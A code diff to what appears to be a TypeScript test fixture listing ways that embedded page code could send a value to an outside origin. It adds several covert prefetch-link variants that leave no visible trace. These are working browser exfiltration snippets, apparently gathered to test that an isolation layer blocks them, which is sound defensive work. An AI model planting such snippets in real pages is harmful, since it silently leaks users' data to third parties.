@@ -1,6 +1,6 @@
 /**
- * Ways in which code of a part could carry the number of a notice out, as `n` in the page; each leaves the page when it
- * succeeds.
+ * Ways in which code of a part could carry the number of a notice out, as `n` in the page; most leave the page when they
+ * succeed; those that have a file fetched ahead are noticed by nobody.
  * @param elsewhere The origin that it would be carried to.
  */
 export const waysOut = (elsewhere: string): Readonly<Record<string, string>> => ({
@@ -13,6 +13,11 @@ export const waysOut = (elsewhere: string): Readonly<Record<string, string>> => 
   'a link that nobody sees': `const a = document.createElement('a'); a.href = '${elsewhere}/?' + n; a.target = '_blank'; a.click()`,
   'a form': `const f = document.createElement('form'); f.action = '${elsewhere}/?' + n; f.method = 'post'; document.body.append(f); f.submit()`,
   'a refresh': `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${elsewhere}/?' + n; document.head.append(m)`,
+  'a link that is told last to fetch ahead': `const l = document.createElement('link'); l.href = '${elsewhere}/?' + n; document.head.append(l); l.rel = 'prefetch'`,
+  'a link that fetches ahead as well': `const l = document.createElement('link'); l.href = '${elsewhere}/?' + n; document.head.append(l); l.relList.add('prefetch')`,
+  'the attribute of a link that fetches ahead': `const l = document.createElement('link'); l.rel = 'prefetch'; Element.prototype.setAttribute.call(l, 'href', '${elsewhere}/?' + n); document.head.append(l)`,
+  'the attribute of such a link, with its namespace': `const l = document.createElement('link'); l.rel = 'prefetch'; l.setAttributeNS(null, 'href', '${elsewhere}/?' + n); document.head.append(l)`,
+  'a link that fetches ahead in an empty frame': `const f = document.createElement('iframe'); document.body.append(f); const { contentDocument: d } = f; const l = d.createElement('link'); l.rel = 'prefetch'; l.href = '${elsewhere}/?' + n; d.head.append(l)`,
 });
 
 /** Code of a part that tries one way when the page is sent an event: `carry-0` the first, `carry-1` the next. */
